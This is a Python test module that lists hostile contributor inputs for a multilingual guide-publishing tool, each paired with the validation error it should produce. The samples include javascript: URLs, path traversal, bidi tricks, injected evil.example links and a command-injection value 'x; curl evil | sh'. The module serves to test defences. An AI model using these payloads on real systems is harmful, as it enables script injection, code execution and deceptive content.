"""Hostile contributors' inputs: (id, files to write, expected first error line), like bad_input_cases.

Each one is something a volunteer translator, an author or a pull request could commit to make a
page run script, dial the wrong number, write outside the project or say what its source does not.
"""

from __future__ import annotations

from .bad_input_cases import CFG, PO, SRC, UI, G

CONTACTS = "content/contacts.yaml"

HOSTILE = [
    # 1. URL fields: only http(s) with a plain host become links
    (
        "contact-url-javascript",
        {CONTACTS: ('  phone: "12348"\n', '  phone: "12348"\n  url: "javascript:alert(1)"\n')},
        f"{CONTACTS}:6:8: error: web address 'javascript:alert(1)' must start with https:// or "
        "http:// (e.g. https://www.court.gov.cn)",
    ),
    (
        "source-url-mixed-case-scheme",
        {SRC: ('  in_force: "1 May 2017"\n', '  in_force: "1 May 2017"\n  url: "JaVaScRiPt:x"\n')},
        f"{SRC}:6:8: error: web address 'JaVaScRiPt:x' must start with https:// or http:// "
        "(e.g. https://www.court.gov.cn)",
    ),
    (
        "contact-url-leading-space",
        {CONTACTS: ('  phone: "12348"\n', '  phone: "12348"\n  url: " javascript:x"\n')},
        f"{CONTACTS}:6:8: error: web address ' javascript:x' contains spaces or control characters "
        "(e.g. https://www.court.gov.cn)",
    ),
    (
        "contact-url-user-before-host",
        {
            CONTACTS: (
                '  phone: "12348"\n',
                '  phone: "12348"\n  url: "https://12348.gov.cn@evil.example"\n',
            )
        },
        f"{CONTACTS}:6:8: error: web address 'https://12348.gov.cn@evil.example' names a user "
        "before the host (a way to disguise a link) (e.g. https://www.court.gov.cn)",
    ),
    (
        "organisation-url-data",
        {CFG: ('  contact: "help@example.test"\n', '  contact: "x"\n  url: "data:text/html,hi"\n')},
        f"{CFG}:9:8: error: web address 'data:text/html,hi' must start with https:// or http:// "
        "(e.g. https://www.court.gov.cn)",
    ),
    # 3. Locale codes are validated whole: they name folders
    (
        "locale-code-traversal",
        {CFG: ("  - code: zh-Hans\n", "  - code: zh-Hans./../../x\n")},
        f"{CFG}:13:11: error: invalid locale code 'zh-Hans./../../x' (use a BCP 47 code such as "
        "'en', 'zh-Hans', 'ug' or 'vi')",
    ),
    (
        "locale-code-case-collision",
        {CFG: ("  - code: zh-Hans\n", "  - code: EN\n")},
        f"{CFG}:13:11: error: locale 'EN' is listed twice (as 'en') (locale codes name folders, "
        "and case-insensitive disks treat 'EN' and 'en' as one)",
    ),
    # 6. Translations may not say something their source does not
    (
        "po-number-as-entity",
        {PO: ("法院必须在3个工作日内处理", "法院必须在3&#48;个工作日内处理")},
        f"{PO}:50:1: error: number 3 of the source is missing from the translation "
        "(in entry 'leave-list|steps.ask.body')",
    ),
    (
        "po-chinese-numeral-thirty",
        {PO: ("法院必须在3个工作日内处理", "法院必须在三十个工作日内处理")},
        f"{PO}:50:1: error: number 3 of the source is missing from the translation "
        "(in entry 'leave-list|steps.ask.body')",
    ),
    (
        "po-reference-style-link",
        {
            PO: (
                'msgstr "已经付款、仍在名单上的人。"',
                'msgstr "[点这里][x]\\n\\n[x]: https://evil.example"',
            )
        },
        f"{PO}:32:1: error: translation adds link target https://evil.example not in the source "
        "(in entry 'leave-list|audience')",
    ),
    (
        "po-raw-anchor",
        {
            PO: (
                'msgstr "在法院的执行局。"',
                'msgstr "在<a href=\\"https://evil.example\\">这里</a>。"',
            )
        },
        f"{PO}:64:1: error: translation adds link target https://evil.example not in the source "
        "(in entry 'leave-list|steps.ask.where')",
    ),
    # 7. Bidi controls and invisible characters are refused everywhere
    (
        "yaml-phone-bidi-override",
        {CONTACTS: ('  phone: "12348"\n', '  phone: "\u202e84321"\n')},
        f"{CONTACTS}:5:11: error: text contains U+202E RIGHT-TO-LEFT OVERRIDE (bidi controls, "
        "invisible and control characters are refused: they can reorder digits or hide text; "
        "type the text plainly)",
    ),
    (
        "po-digits-reversed-with-bidi",
        {PO: ("法院必须在3个工作日内处理", "法院必须在\u2067\u202e3\u202c\u2069个工作日内处理")},
        f"{PO}:50:1: error: text contains U+2067 RIGHT-TO-LEFT ISOLATE at character 12",
    ),
    (
        "yaml-zero-width-space",
        {G: ('title: "Leaving the list"', 'title: "Leaving the\u200blist"')},
        f"{G}:4:20: error: text contains U+200B ZERO WIDTH SPACE",
    ),
    (
        "yaml-control-character-in-title",
        {G: ('title: "Leaving the list"', 'title: "Leaving\\x07 the list"')},
        f"{G}:4:16: error: text contains U+0007 a control character",
    ),
    (
        "yaml-lone-surrogate",
        {G: ('title: "Leaving the list"', 'title: "Leaving \\ud800 the list"')},
        f"{G}:4:17: error: text contains U+D800 an unnamed character",
    ),
    (
        "phone-with-letters",
        {CONTACTS: ('  phone: "12348"\n', '  phone: "12348 call me"\n')},
        f"{CONTACTS}:5:10: error: phone number '12348 call me' may hold only digits, spaces, "
        "hyphens, brackets and a leading + (e.g. 12348 or +86 10 1234 5678)",
    ),
    # 9. Markdown that would take minutes is refused before Markdown runs
    (
        "po-bracket-bomb",
        {PO: ('msgstr "已经付款、仍在名单上的人。"', 'msgstr "' + "[" * 5_000 + '"')},
        f"{PO}:32:1: error: passage has 5000 '[' and '<' characters, over the limit of 200 (shorten it)",
    ),
    # 10. Inputs that used to end in 'internal error'
    (
        "ui-literal-percent",
        {UI: ('msgstr "指南"', 'msgstr "100% 免费指南"')},
        f"{UI}:286:1: error: not a valid format string: '免' after '%' is not a valid conversion "
        "(write %% for a percent sign) (in entry 'Guides')",
    ),
    (
        "no-locales",
        {CFG: ("locales:\n", "locales: []\nunused:\n")},
        f"{CFG}:9:10: error: no locales are listed (list at least the source locale, e.g. "
        "'- code: en')",
    ),
    # 14. Smaller
    (
        "threshold-over-one",
        {
            CFG: (
                "    font_package: fonts-noto-cjk\n",
                "    font_package: fonts-noto-cjk\n    publish_threshold: 2\n",
            )
        },
        f"{CFG}:18:24: error: locales.1.publish_threshold: 2 is not between 0 and 1",
    ),
    (
        "negative-deadline",
        {G: ("amount: 3", "amount: -3")},
        f"{G}:22:17: error: steps.0.deadlines.0.amount: -3 is not between 1 and 3650",
    ),
    (
        "font-package-injection",
        {CFG: ("font_package: fonts-noto-cjk", 'font_package: "x; curl evil | sh"')},
        f"{CFG}:17:19: error: invalid Debian package name 'x; curl evil | sh'",
    ),
    (
        "yml-twin-of-a-guide",
        {"content/guides/leave-list.yml": "id: leave-list\n"},
        "content/guides/leave-list.yml:1:1: error: guide 'leave-list' is defined twice: in "
        "content/guides/leave-list.yaml and in content/guides/leave-list.yml",
    ),
]
